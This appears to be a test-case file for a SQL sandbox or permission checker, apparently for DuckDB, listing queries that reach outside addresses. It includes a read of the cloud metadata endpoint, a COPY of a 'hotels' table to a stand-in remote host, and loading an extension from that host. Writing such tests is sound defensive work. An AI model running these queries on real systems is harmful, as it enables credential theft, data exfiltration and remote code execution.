-- network: addresses outside
-- role: clerk

-- case: addresses
SELECT * FROM read_csv('https://203.0.113.5/x.csv')

-- case: addresses
SELECT * FROM read_parquet('s3://bucket/x.parquet')

-- case: addresses
SELECT * FROM 'https://203.0.113.5/x.csv'

-- case: addresses
SELECT * FROM 'http://localhost/x.parquet'

-- case: addresses
FROM 's3://bucket/x'

-- case: addresses
FROM 'hf://datasets/x/y.csv'

-- case: addresses
SELECT * FROM read_json('gcs://b/x.json')

-- case: addresses
SELECT * FROM read_text('http://169.254.169.254/latest/meta-data')

-- case: addresses
ATTACH 'https://203.0.113.5/x.db'

-- case: addresses
ATTACH 'postgres:host=203.0.113.5' AS p (TYPE postgres)

-- case: addresses
SELECT * FROM postgres_scan('host=203.0.113.5', 'public', 't')

-- case: addresses
SELECT * FROM sqlite_scan('x.db', 't')

-- case: addresses
SELECT * FROM mysql_query('db', 'select 1')

-- case: addresses
SELECT * FROM iceberg_scan('s3://x')

-- case: addresses
SELECT * FROM delta_scan('s3://x')

-- case: addresses
SELECT http_get('http://203.0.113.5')

-- case: addresses
COPY hotels TO 'https://203.0.113.5/put'

-- case: addresses
INSTALL x FROM 'http://203.0.113.5'

-- case: addresses
LOAD 'http://203.0.113.5/x.duckdb_extension'

-- case: addresses
SELECT * FROM st_read('http://203.0.113.5/x.shp')
